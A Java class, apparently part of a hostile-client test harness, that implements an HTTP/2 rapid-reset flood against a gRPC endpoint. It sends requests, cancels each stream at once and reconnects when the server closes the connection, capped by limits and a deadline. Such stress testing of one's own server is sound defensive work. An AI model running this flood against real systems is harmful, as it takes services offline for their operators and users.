package dev.flow.hostile.attack;

import dev.flow.hostile.http2.Frame;
import dev.flow.hostile.http2.HeaderBlock;
import dev.flow.hostile.http2.Http2Connection;
import dev.flow.hostile.scenario.Deadline;
import dev.flow.hostile.scenario.Outcome;
import dev.flow.hostile.scenario.Target;
import dev.flow.hostile.victim.GrpcClient;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.time.Duration;

/** Sends whole requests and cancels each at once, connecting again whenever the server ends the connection. */
final class CancelFlood {

    private static final byte[] BLOCK = HeaderBlock.grpc("/jina.JinaSingleDataRequestRPC/process_single_data")
            .bytes();
    private static final int MOST = 100_000;
    private static final int MOST_CONNECTIONS = 500;

    private final byte[] message;
    private int sent;
    private int connections;

    private CancelFlood() {
        byte[] request = GrpcClient.request("encoder", "/hostile", "a").toByteArray();
        this.message = ByteBuffer.allocate(5 + request.length)
                .put((byte) 0)
                .putInt(request.length)
                .put(request)
                .array();
    }

    static Outcome run(Target target) throws IOException {
        CancelFlood flood = new CancelFlood();
        Deadline deadline = target.seconds(8, 1.2);
        String last = "nothing";
        while (!deadline.passed() && flood.sent < MOST && flood.connections < MOST_CONNECTIONS) {
            last = flood.connection(target, deadline);
            deadline.pause(Duration.ofMillis(1));
        }
        return Outcome.of(flood.sent + " cancelled on " + flood.connections + " connections, last " + last);
    }

    private String connection(Target target, Deadline deadline) throws IOException {
        this.connections++;
        try (Http2Connection connection = Http2Connection.open(target.address())) {
            for (int stream = 1;
                    !deadline.passed()
                            && this.sent < MOST
                            && connection.reaction().ended().isEmpty();
                    stream += 2) {
                cancelled(connection, stream);
            }
            return connection.reaction().toString();
        }
    }

    private void cancelled(Http2Connection connection, int stream) {
        try {
            connection.send(Frame.headers(stream, BLOCK), Frame.data(stream, this.message, true), Frame.cancel(stream));
            this.sent++;
            if (this.sent % 20 == 0) {
                connection.flush();
            }
        } catch (IOException closed) {
            // The reader thread records the end of the connection.
        }
    }
}
